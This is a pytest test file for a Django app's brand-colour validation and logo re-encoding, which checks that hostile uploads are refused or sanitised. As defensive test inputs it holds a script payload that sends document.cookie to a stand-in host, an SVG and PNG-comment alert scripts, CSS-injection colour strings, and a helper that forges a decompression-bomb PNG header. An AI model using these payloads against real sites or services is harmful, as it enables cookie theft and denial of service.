"""Dana Schulz brands her clients' reports: an accent colour that stays readable, and a logo we can trust.

Whatever she (or someone who took over her account) uploads, what we keep is a small PNG we encoded
ourselves, or a clear message saying why the file was refused.
"""

import io
import struct
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from PIL import ExifTags, Image, ImageFile

from compliance_wizard.branding.colors import color_problem, contrast_ratio, normalize_hex
from compliance_wizard.branding.logo import MAX_UPLOAD_BYTES, PNG_SIGNATURE, LogoError, reencode_logo

NOT_AN_IMAGE = "must be a PNG or JPEG image"
DAMAGED = "damaged or incomplete"
TOO_MANY_PIXELS = "at most 20 megapixels"
HTML = b"<!doctype html><html><body><script>fetch('https://evil.example/?c='+document.cookie)</script></body></html>"


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


def encoded(image: Image.Image, fmt: str = "PNG", **options) -> bytes:
    out = io.BytesIO()
    image.save(out, format=fmt, **options)
    return out.getvalue()


def logo_png(size=(300, 120), mode="RGB", color="#1a5fb4") -> bytes:
    return encoded(Image.new(mode, size, color))


def noisy_picture() -> Image.Image:
    """Hardly compressible, so cutting the file in half cuts into the pixel data."""
    return Image.frombytes("RGB", (200, 200), bytes((i * 7919 + i // 600) % 256 for i in range(200 * 200 * 3)))


def opened(png: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(png))
    image.load()
    return image


def refused(upload) -> str:
    with pytest.raises(LogoError) as caught:
        reencode_logo(upload)
    assert caught.value.message == str(caught.value)
    return caught.value.message


def with_claimed_size(png: bytes, width: int, height: int) -> bytes:
    """The same small PNG, but its IHDR header claims another size (with a valid checksum)."""
    assert png[12:16] == b"IHDR"
    body = struct.pack(">II", width, height) + png[24:29]
    chunk = b"IHDR" + body
    return png[:8] + struct.pack(">I", len(body)) + chunk + struct.pack(">I", zlib.crc32(chunk)) + png[33:]


class TestAccentColour:
    @pytest.mark.parametrize(
        ("typed", "stored"),
        [
            ("#1a5fb4", "#1a5fb4"),
            ("#1A5FB4", "#1a5fb4"),
            ("  #1a5fB4\n", "#1a5fb4"),
            ("#abc", "#aabbcc"),
            ("#FFF", "#ffffff"),
        ],
    )
    def test_hex_codes_are_stored_in_one_spelling(self, typed, stored):
        assert normalize_hex(typed) == stored

    @pytest.mark.parametrize(
        "typed",
        [
            "",
            "red",
            "1a5fb4",
            "#1a5fb",
            "#1a5fb4a",
            "#ggg",
            "rgb(26, 95, 180)",
            "#fff;background:url(x)",
            "#fff}h1{color:red",
            "#1a5fb4\n#000000",
            "#１２３",  # full-width digits are not hex digits
        ],
    )
    def test_anything_else_is_refused_with_an_example(self, typed):
        with pytest.raises(ValueError, match="for example #1a5fb4"):
            normalize_hex(typed)

    @pytest.mark.parametrize(
        ("a", "b", "ratio"),
        [
            ("#000000", "#ffffff", 21.0),
            ("#ffffff", "#ffffff", 1.0),
            ("#767676", "#ffffff", 4.54),
            ("#777777", "#fff", 4.48),
        ],
    )
    def test_contrast_follows_wcag(self, a, b, ratio):
        assert contrast_ratio(a, b) == pytest.approx(ratio, abs=0.005)
        assert contrast_ratio(b, a) == contrast_ratio(a, b)

    def test_a_dark_blue_is_usable(self):
        assert color_problem("#1a5fb4") is None
        assert color_problem("#767676") is None  # just above 4.5:1

    def test_a_light_colour_is_refused_with_its_ratio_and_what_to_do(self):
        message = color_problem("#777777")  # 4.48:1, just below
        assert "4.47:1" in message and "4.5:1" in message
        assert "darker shade" in message

    def test_yellow_says_how_far_off_it_is(self):
        assert "1.07:1" in color_problem("#ffff00")

    def test_a_malformed_colour_is_a_problem_too(self):
        assert "for example #1a5fb4" in color_problem("#fff;background:url(x)")

    def test_the_ratio_is_written_the_german_way_in_german(self):
        with translation.override("de"):
            assert "4,47:1" in color_problem("#777777")


class TestAcceptedLogo:
    def test_a_png_comes_back_as_a_fresh_png(self):
        original = logo_png()
        result = reencode_logo(original)
        assert result.startswith(PNG_SIGNATURE)
        image = opened(result)
        assert image.format == "PNG" and image.size == (300, 120) and image.mode == "RGB"
        assert image.getpixel((10, 10)) == (0x1A, 0x5F, 0xB4)

    def test_transparency_is_kept(self):
        image = opened(reencode_logo(logo_png(mode="RGBA", color=(26, 95, 180, 0))))
        assert image.mode == "RGBA" and image.getpixel((0, 0))[3] == 0

    def test_a_palette_png_with_a_transparent_colour_keeps_it(self):
        palette = Image.new("P", (40, 20), 0)
        palette.putpalette([255, 255, 255, 26, 95, 180])
        palette.putpixel((5, 5), 1)
        image = opened(reencode_logo(encoded(palette, transparency=0)))
        assert image.mode == "RGBA"
        assert image.getpixel((0, 0))[3] == 0 and image.getpixel((5, 5)) == (26, 95, 180, 255)

    def test_django_upload_is_read_from_the_start(self):
        upload = SimpleUploadedFile("logo.png", logo_png(), content_type="image/png")
        upload.read(10)  # as a form field may have done
        assert opened(reencode_logo(upload)).size == (300, 120)

    def test_a_large_image_is_scaled_down_to_fit_800_by_400(self):
        wide = opened(reencode_logo(logo_png(size=(3000, 1000))))
        assert wide.size == (800, 267)
        tall = opened(reencode_logo(logo_png(size=(1000, 3000))))
        assert tall.size == (133, 400)

    def test_a_small_image_is_not_blown_up(self):
        assert opened(reencode_logo(logo_png(size=(64, 32)))).size == (64, 32)

    def test_a_phone_photo_loses_its_gps_data_and_stands_upright(self):
        exif = Image.Exif()
        exif[ExifTags.Base.Orientation] = 6  # "rotate 90° clockwise to view"
        exif[ExifTags.Base.Make] = "PhoneMaker"
        exif[ExifTags.IFD.GPSInfo] = {
            ExifTags.GPS.GPSLatitudeRef: "N",
            ExifTags.GPS.GPSLatitude: (47.0, 59.0, 30.0),
            ExifTags.GPS.GPSLongitudeRef: "E",
            ExifTags.GPS.GPSLongitude: (7.0, 51.0, 10.0),
        }
        photo = encoded(Image.new("RGB", (200, 100), "#1a5fb4"), "JPEG", exif=exif.tobytes())
        assert Image.open(io.BytesIO(photo)).getexif().get_ifd(ExifTags.IFD.GPSInfo)  # it really had GPS

        result = reencode_logo(photo)

        image = opened(result)
        assert image.format == "PNG" and image.size == (100, 200)
        assert not image.getexif() and not image.info.get("exif")
        assert b"eXIf" not in result and b"Exif" not in result and b"PhoneMaker" not in result

    def test_png_text_chunks_are_dropped(self):
        from PIL import PngImagePlugin

        info = PngImagePlugin.PngInfo()
        info.add_text("Comment", "<script>alert(1)</script>")
        result = reencode_logo(encoded(Image.new("RGB", (20, 20)), pnginfo=info))
        assert b"script" not in result and b"tEXt" not in result


class TestHostileUploads:
    def test_svg_with_a_script_is_refused(self):
        svg = b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>'
        upload = SimpleUploadedFile("logo.png", svg, content_type="image/png")  # the name lies
        assert NOT_AN_IMAGE in refused(upload)

    def test_an_html_file_is_refused(self):
        assert NOT_AN_IMAGE in refused(SimpleUploadedFile("logo.jpg", HTML, content_type="image/jpeg"))

    def test_html_behind_a_png_signature_is_refused_as_a_broken_png(self):
        assert DAMAGED in refused(PNG_SIGNATURE + HTML)

    def test_a_polyglot_png_keeps_its_picture_and_loses_the_html(self):
        polyglot = logo_png() + HTML
        result = reencode_logo(polyglot)
        assert opened(result).size == (300, 120)
        assert b"script" not in result and b"html" not in result and b"evil" not in result

    def test_a_gif_is_refused(self):
        assert NOT_AN_IMAGE in refused(encoded(Image.new("RGB", (10, 10)), "GIF"))

    def test_a_webp_is_refused(self):
        assert NOT_AN_IMAGE in refused(encoded(Image.new("RGB", (10, 10)), "WEBP"))

    def test_a_decompression_bomb_is_refused_before_it_is_decoded(self):
        bomb = with_claimed_size(logo_png(size=(10, 10)), 30000, 30000)
        assert len(bomb) < 1000
        assert TOO_MANY_PIXELS in refused(bomb)

    def test_a_picture_above_our_own_limit_is_refused_too(self):
        # 25 megapixels: below Pillow's own bomb limit, above ours.
        assert TOO_MANY_PIXELS in refused(with_claimed_size(logo_png(size=(10, 10)), 5000, 5000))

    def test_a_file_over_two_megabytes_is_refused_naming_the_limit(self):
        assert "larger than 2 MB" in refused(b"\x89PNG" + b"\0" * MAX_UPLOAD_BYTES)

    def test_an_oversize_upload_is_not_read_to_the_end(self):
        class Endless(io.RawIOBase):
            read_sizes = []

            def readable(self):
                return True

            def read(self, size=-1):
                self.read_sizes.append(size)
                return b"\0" * (size if size >= 0 else 10 * MAX_UPLOAD_BYTES)

        assert "larger than 2 MB" in refused(Endless())
        assert Endless.read_sizes == [MAX_UPLOAD_BYTES + 1]

    def test_exactly_two_megabytes_is_still_looked_at(self):
        padded = logo_png() + b"\0" * (MAX_UPLOAD_BYTES - len(logo_png()))
        assert len(padded) == MAX_UPLOAD_BYTES
        assert opened(reencode_logo(padded)).size == (300, 120)

    # Importing WeasyPrint (the report module does) relaxes Pillow for the whole process.
    @pytest.mark.parametrize("relaxed", [False, True], ids=["pillow-default", "after-weasyprint-import"])
    @pytest.mark.parametrize("fmt", ["PNG", "JPEG"])
    def test_a_truncated_file_is_refused(self, fmt, relaxed, monkeypatch):
        monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", relaxed)
        whole = encoded(noisy_picture(), fmt)
        assert opened(reencode_logo(whole)).size == (200, 200)
        assert DAMAGED in refused(whole[: len(whole) // 2])
        assert DAMAGED in refused(whole[:-40])  # only the very end is missing
        assert ImageFile.LOAD_TRUNCATED_IMAGES is relaxed  # the renderer keeps its own setting

    def test_an_empty_file_is_refused(self):
        assert "empty" in refused(b"")
